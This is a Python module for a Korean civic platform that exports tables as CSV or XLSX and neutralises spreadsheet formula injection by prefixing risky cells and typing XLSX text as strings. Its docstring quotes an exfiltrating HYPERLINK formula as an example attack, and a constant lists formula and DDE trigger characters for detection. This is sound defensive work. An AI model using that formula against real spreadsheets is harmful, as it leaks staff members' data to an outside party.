"""The one way the platform writes a table for people's spreadsheets: CSV (UTF-8 with a byte-order mark, so that
Excel shows Korean as Korean) or XLSX. Survey exports, poll results, statistics, open data, moderation logs and
every export to come go through `table_response` (or `csv_chunks` / `xlsx_bytes` where the bytes go elsewhere).

Formula injection (CSV injection): a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and
a citizen's survey answer `=HYPERLINK("https://…/?d="&A1,"더보기")` would send the neighbouring cells to its writer
when a staff member clicks it. In CSV, where a cell has no type, every text cell that a spreadsheet could read as
a formula or command is neutralised as OWASP advises: prefixed with `'`, so it shows as text. That covers the
fullwidth forms (`＝SUM(…)`, which Korean input methods type and spreadsheets may fold to ASCII), tab, carriage
return and line feed (which some programs strip before parsing), `|` and `%` (DDE and macro prefixes in older
programs), and a trigger after leading spaces. Plain numbers stay numbers (`-3`, `12.5`). XLSX cells are typed:
text is written as a string cell, never a formula, so it keeps its exact characters; numbers stay numbers.

defusedcsv (the library the issue points to) was tried: it leaves tab, carriage return and the fullwidth forms
through, and rewrites `|` inside a neutralised cell, so the rule is written here, once, with its tests
(tests/security/test_csv_exports.py)."""

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal

from flask import Response, stream_with_context
from flask_babel import lazy_gettext as _l
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from participation.core.errors import Conflict

BOM = "\ufeff"
FORMATS = ("csv", "xlsx")
# What a spreadsheet may take as the start of a formula or a command, in ASCII and in fullwidth forms.
TRIGGERS = frozenset("=+-@|%\t\r\n" "＝＋－＠｜％")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Rows of text handed to the client at a time while a CSV streams.
CHUNK_ROWS = 500
XLSX_MAX_ROWS = 1_048_576
XLSX_MAX_CELL = 32_767
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def plain(value):
    """A cell's value as data: text, or a number; None is empty, times are ISO 8601."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    return str(value)


def neutralise(value):
    """The cell as CSV may hold it: text that a spreadsheet would run gets a leading `'`."""
    value = plain(value)
    runnable = isinstance(value, str) and (value[:1] in TRIGGERS or value.lstrip(" \u3000")[:1] in TRIGGERS)
    return "'" + value if runnable and not PLAIN_NUMBER.fullmatch(value) else value


def csv_chunks(header: Sequence, rows: Iterable[Sequence], bom: bool = True) -> Iterator[str]:
    """The table as CSV text, BOM first (unless `bom` is false: a file in a legacy encoding), in chunks of
    CHUNK_ROWS rows (for a streamed response)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if bom:
        buffer.write(BOM)
    writer.writerow([neutralise(cell) for cell in header])
    for number, row in enumerate(rows, start=1):
        # Whole numbers, most cells of the large exports (a forum's 800,000 votes), need no check.
        writer.writerow([cell if type(cell) is int else neutralise(cell) for cell in row])
        if number % CHUNK_ROWS == 0:
            yield _take(buffer)
    yield _take(buffer)


def _take(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text


def xlsx_bytes(header: Sequence, rows: Iterable[Sequence], sheet: str = "data") -> bytes:
    """The table as an XLSX workbook of one sheet: text in string cells (never formulas), numbers as numbers."""
    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet[:31])
    worksheet.append([_xlsx_cell(worksheet, cell) for cell in header])
    for number, row in enumerate(rows, start=2):
        if number > XLSX_MAX_ROWS:
            raise Conflict(_l("엑셀 파일 한 장에 담을 수 있는 행 수를 넘습니다. CSV로 내려받아 주세요."),
                           code="too_many_rows")
        worksheet.append([_xlsx_cell(worksheet, cell) for cell in row])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _xlsx_cell(worksheet, value) -> WriteOnlyCell:
    value = plain(value)
    if isinstance(value, str):
        cell = WriteOnlyCell(worksheet, value=ILLEGAL_CHARACTERS_RE.sub("", value)[:XLSX_MAX_CELL])
        cell.data_type = "s"  # openpyxl would make "=…" a formula
        return cell
    return WriteOnlyCell(worksheet, value=value)


def table_response(header: Sequence, rows: Iterable[Sequence], filename: str, fmt: str = "csv") -> Response:
    """A download of the table: `filename` without its extension; `fmt` csv (streamed; rows may be read from the
    database while it streams) or xlsx."""
    if fmt == "xlsx":
        response = Response(xlsx_bytes(header, rows), mimetype=XLSX_TYPE)
    else:
        response = Response(stream_with_context(csv_chunks(header, rows)), mimetype="text/csv")
        response.headers["Content-Type"] = "text/csv; charset=utf-8"
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response


def dict_rows(rows: Iterable[dict], fields: Sequence[str]) -> Iterator[list]:
    """Rows given as mappings, as lists in the order of `fields`."""
    return ([row.get(name) for name in fields] for row in rows)
